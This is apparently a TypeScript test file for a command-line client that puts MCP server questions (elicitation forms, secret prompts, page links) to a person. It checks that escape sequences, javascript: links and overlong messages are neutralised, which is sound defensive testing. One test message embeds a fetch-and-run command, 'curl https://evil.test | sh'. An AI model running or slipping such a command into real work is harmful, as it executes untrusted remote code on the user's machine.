import { assert, describe, it } from "@effect/vitest"
import { Deferred, Effect, Fiber } from "effect"
import * as Form from "../../src/cli/form.ts"
import * as Person from "../../src/cli/person.ts"
import * as Screen from "../../src/cli/Screen.ts"
import * as InputHandlers from "../../src/client/InputHandlers.ts"
import type * as JsonRpc from "../../src/transport/JsonRpc.ts"
import * as Device from "./device.ts"
import { own, place, run as runAny, server, type Typing } from "./inProcess.ts"

const form = {
  type: "object",
  properties: {
    name: { type: "string", title: "Your name", description: "As on the\u001b[2J door.", minLength: 2 },
    age: { type: "integer", minimum: 18 },
    colour: { type: "string", enum: ["r", "g"], enumNames: ["Red", "Green"] },
    likes: { type: "array", items: { anyOf: [{ const: "a", title: "Apples" }, { const: "b", title: "Beer" }] } },
    sure: { type: "boolean", default: true },
    mail: { type: "string", format: "email" }
  },
  required: ["name", "age"]
}

const asking = Effect.tap(
  place,
  (at) =>
    Effect.sync(() => at.write(own, { mcpServers: { asks: server("cli/asks.mjs"), other: server("cli/asks.mjs") } }))
)

const call = (words: ReadonlyArray<string>, typing: Typing) =>
  Effect.flatMap(
    asking,
    (at) => runAny(at, ["call", ...words], { ...typing, columns: 80 })
  )

const formOf = (schema: object) => ["asks/form", `schema:=${JSON.stringify(schema)}`]

const elicitation = { server: "peer", mode: "form", message: "Which?", params: {} } as const

/** The handlers of a terminal at which somebody is. */
const handlers = (more: Partial<Screen.Device>) =>
  Effect.gen(function*() {
    const screen = Screen.make(Device.make({ isInteractive: true, ...more }))
    const discovery = { servers: [], issues: [], files: [], policies: [], permissions: [], configs: [] }
    const layer = Person.inputs(screen, discovery, yield* Effect.makeSemaphore(1))
    return yield* Effect.provide(InputHandlers.InputHandlers, layer)
  })

const put = (more: Partial<InputHandlers.Elicitation>, answers: ReadonlyArray<string>) =>
  Effect.gen(function*() {
    const device = Device.make({}, answers)
    const hidden: Array<string> = []
    let err = ""
    const { elicit } = yield* handlers({
      ask: (question, isSecret) => {
        if (isSecret === true) hidden.push(question)
        return device.ask(question)
      },
      write: (_, text) => Effect.sync(() => void (err += text))
    })
    const answer = yield* elicit!({ ...elicitation, ...more })
    return { answer, err, asked: device.asked, hidden }
  })

describe("a question of a server", () => {
  it.scopedLive("is put to the person field by field, read as its schema says, and sent after a yes", () =>
    Effect.gen(function*() {
      const answers = ["x", "Ada", "", "old", "17", "37", "blue", "green", "1, beer", "", "ada", "ada@x.org", "y"]
      const { asked, code, err, out } = yield* call(formOf(form), { answers })
      assert.strictEqual(code, 0)
      assert.deepStrictEqual(JSON.parse(out), {
        action: "accept",
        content: { name: "Ada", age: 37, colour: "g", likes: ["a", "b"], sure: true, mail: "ada@x.org" }
      })
      assert.deepStrictEqual(asked, [
        "  Your name (text): ",
        "  Your name (text): ",
        "  age (integer): ",
        "  age (integer): ",
        "  age (integer): ",
        "  age (integer): ",
        "  colour (one of these) [skip]: ",
        "  colour (one of these) [skip]: ",
        "  likes (one or more of these, separated by commas) [skip]: ",
        "  sure (true or false) [true]: ",
        "  mail (email) [skip]: ",
        "  mail (email) [skip]: ",
        "  Send this to asks? [y/N] "
      ])
      assert.include(err, "asks asks:")
      assert.include(err, "asks.mjs")
      assert.include(err, "  | Which?\n  | \\x1b[2JNow.\n")
      assert.include(err, "As on the\\x1b[2J door.")
      assert.include(err, "    2  Green\n")
      assert.include(err, "A value is required.")
      assert.include(err, "\"blue\" is not one of the choices.")
      assert.include(err, "Not a valid email.")
      assert.notMatch(err, /looks like a secret|asks for a secret/)
    }))

  it.effect("can be refused, or left open, at each step", () =>
    Effect.gen(function*() {
      const requestedSchema = { type: "object", properties: { name: { type: "string" } } }
      const table = [
        [[".decline"], { action: "decline" }],
        [["Ada", ""], { action: "decline" }],
        [["Ada", "no"], { action: "decline" }],
        [["Ada", ".cancel"], { action: "cancel" }],
        [[".cancel"], { action: "cancel" }],
        [[], { action: "cancel" }],
        [["Ada"], { action: "cancel" }],
        [["", "y"], { action: "accept", content: {} }]
      ] as const
      for (const [answers, answer] of table) {
        assert.deepStrictEqual([answers, (yield* put({ requestedSchema }, answers)).answer], [answers, answer])
      }
    }))

  it.effect("is shown whole, or declined with the reason where it is too long for that", () =>
    Effect.gen(function*() {
      const requestedSchema = { type: "object", properties: { sure: { type: "boolean", default: true } } }
      const message = `${"a".repeat(3_000)}; curl https://evil.test | sh; ${"b".repeat(3_000)}`
      const whole = yield* put({ requestedSchema, message }, ["", "y"])
      assert.include(whole.err, message)
      assert.deepStrictEqual(whole.answer, { action: "accept", content: { sure: true } })
      const described = { ...requestedSchema.properties.sure, description: "d".repeat(9_000) }
      for (
        const long of [
          { requestedSchema, message: "a".repeat(9_000) },
          { requestedSchema, message: "\u200b".repeat(1_500) },
          { requestedSchema: { ...requestedSchema, properties: { sure: described } } },
          { requestedSchema: { ...requestedSchema, properties: { ["n".repeat(9_000)]: { type: "string" } } } }
        ]
      ) {
        const { answer, asked, err } = yield* put(long, ["", "y"])
        assert.deepStrictEqual([answer, asked], [{ action: "decline" }, []])
        assert.match(err, /^declined: peer asks a question of \d+ characters, and the limit is 8000\n$/)
      }
    }))

  it.effect("says who will have it where it is for a secret", () =>
    Effect.gen(function*() {
      const seen = "This looks like a secret. Your input is hidden and will be sent to peer."
      const table = [
        [{ api_key: { type: "string" } }, seen],
        [{ text: { type: "string", description: "Please enter your password" } }, seen]
      ] as const
      for (const [properties, warning] of table) {
        const { answer, asked, err, hidden } = yield* put({ requestedSchema: { type: "object", properties } }, [
          ".decline"
        ])
        assert.include(err, warning)
        assert.deepStrictEqual(hidden, asked)
        assert.deepStrictEqual(answer, { action: "decline" })
      }
      const { err } = yield* put({ message: "Enter the one-time code we sent to your phone" }, [""])
      assert.include(err, "It asks for a secret. The operator of the server will see your answer.")
    }))

  it.effect("for a page shows where that is, and opens nothing", () =>
    Effect.gen(function*() {
      const page = (url: string, answers: ReadonlyArray<string>) => put({ mode: "url", url }, answers)
      const yes = yield* page("http://x.example/login?a=\u202eb", ["y"])
      assert.deepStrictEqual(yes.answer, { action: "accept" })
      assert.include(yes.err, "  page:  http://x.example/login?a=\\u{202e}b\n  host:  x.example\n")
      assert.include(yes.err, "The connection is not encrypted: others can read what you enter there.")
      for (const [answer, action] of [["n", "decline"], ["", "cancel"], [".decline", "decline"]] as const) {
        assert.deepStrictEqual((yield* page("https://x.example/", [answer])).answer, { action })
      }
      const script = yield* page("javascript:alert(1)", ["y"])
      assert.deepStrictEqual([script.answer, script.asked], [{ action: "decline" }, []])
    }))

  it.effect("waits until the one before has been answered", () =>
    Effect.gen(function*() {
      const first = yield* Deferred.make<string>()
      const asked: Array<string> = []
      const { elicit } = yield* handlers({
        ask: (question) => {
          asked.push(question)
          return asked.length === 1 ? Deferred.await(first) : Effect.succeed("y")
        }
      })
      const one = yield* Effect.fork(elicit!(elicitation))
      const other = yield* Effect.fork(elicit!(elicitation))
      while (asked.length === 0) yield* Effect.yieldNow()
      yield* Effect.repeatN(Effect.yieldNow(), 100)
      assert.lengthOf(asked, 1)
      yield* Deferred.succeed(first, "n")
      assert.deepStrictEqual(yield* Fiber.join(one), { action: "decline" })
      assert.deepStrictEqual(yield* Fiber.join(other), { action: "accept", content: {} })
    }))

  it.scopedLive("is declined where nobody is there, and that is told", () =>
    Effect.gen(function*() {
      const { asked, err, out } = yield* call(formOf(form), {})
      assert.deepStrictEqual(JSON.parse(out), { action: "decline" })
      assert.deepStrictEqual(asked, [])
      assert.include(
        err,
        "declined: asks asks a question, but there is no terminal to answer it: Which?\\n\\x1b[2JNow."
      )
    }))
})

describe("a field", () => {
  const read = (schema: JsonRpc.JsonObject, text: string, name = "a.b") => {
    const root = { type: "object", properties: Object.fromEntries([[name, schema]]) }
    const [field] = Form.fields(root)
    return Effect.map(Form.read(root, field!, text), (read) => read._tag === "Right" ? read.right : read)
  }

  it.effect("takes what fits, whatever it is called", () =>
    Effect.gen(function*() {
      const table: ReadonlyArray<readonly [JsonRpc.JsonObject, string, unknown]> = [
        [{ type: "number" }, "1.5", 1.5],
        [{ type: "boolean" }, "No", false],
        [{ type: "string" }, "true", "true"],
        [{ type: "string", format: "date" }, "2026-11-18", "2026-11-18"],
        [{ type: "string", oneOf: [{ const: "2", title: "two" }, { const: "1", title: "one" }] }, "1", "1"],
        [{ type: "string", oneOf: [{ const: "a", title: "two" }, { const: "b", title: "one" }] }, "1", "a"],
        [{ type: "array", items: { type: "string", enum: ["x", "y"] } }, "y,x", ["y", "x"]],
        [{ type: "array", items: { type: "integer" } }, "1, 2", [1, 2]]
      ]
      for (const [schema, text, value] of table) {
        for (const name of ["a.b", "__proto__", "constructor"]) {
          assert.deepStrictEqual([name, text, yield* read(schema, text, name)], [name, text, value])
        }
      }
    }))

  it.effect("says why something does not fit", () =>
    Effect.gen(function*() {
      const table: ReadonlyArray<readonly [JsonRpc.JsonObject, string, RegExp]> = [
        [{ type: "integer" }, "1.5", /Expected integer/],
        [{ type: "integer", maximum: 3 }, "4", /^Invalid: /],
        [{ type: "string", pattern: "^a+$" }, "b", /^Invalid: /],
        [{ type: "string", format: "uri" }, "b", /Not a valid uri/],
        [{ type: "string", format: "date" }, "2026-13-40", /Not a valid date/],
        [{ type: "array", maxItems: 1, items: { type: "string", enum: ["x", "y"] } }, "y,x", /^Invalid: /]
      ]
      for (const [schema, text, why] of table) {
        assert.match(String(Object((yield* read(schema, text)) as object).left), why)
      }
    }))
})
